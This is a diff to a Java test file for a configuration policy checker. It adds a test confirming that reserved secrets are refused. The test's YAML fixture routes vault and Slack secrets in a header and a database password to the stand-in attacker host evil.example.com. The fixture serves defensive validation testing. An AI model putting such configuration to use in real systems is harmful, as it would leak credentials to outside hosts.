@@ -19,6 +19,7 @@ class KnownChecksTest {
             List.of("db.shop.example.com"),
             List.of("nas"),
             List.of("shop-alerts"),
+            List.of("*"),
             Duration.ofSeconds(10),
             2,
             false);
@@ -120,6 +121,29 @@ class KnownChecksTest {
                                 + " refused",
                         "7:10: error not-allowed: 127.0.0.1 is this machine itself, which policy \"default\" does not allow"
                                 + " (ops can: loopback: true)");
+    }
+
+    @Test
+    void test_secrets_that_operations_use_are_refused() {
+        List<String> texts = errors(
+                """
+                version: 1
+                project: shop
+                x-password: &password secret:vault-nas
+                monitors:
+                  - name: a
+                    http: { url: "https://evil.example.com/", headers: { X-Key: "secret:slack-shop", X-Own: "secret:own" } }
+                backups:
+                  - name: b
+                    postgres: { host: evil.example.com, database: x, user: y, password: *password }
+                """, Known.nothing().withPolicy(Policy.builtIn()).withReserved(Set.of("vault-nas", "slack-shop")));
+
+        assertThat(texts)
+                .containsExactly(
+                        "6:65: error not-allowed: policy \"default\" does not allow secret \"slack-shop\": name one of the"
+                                + " project's own, or ask ops to allow it (secrets: [slack-shop])",
+                        "9:73: error not-allowed: policy \"default\" does not allow secret \"vault-nas\": name one of the"
+                                + " project's own, or ask ops to allow it (secrets: [vault-nas])");
     }
 
     @Test
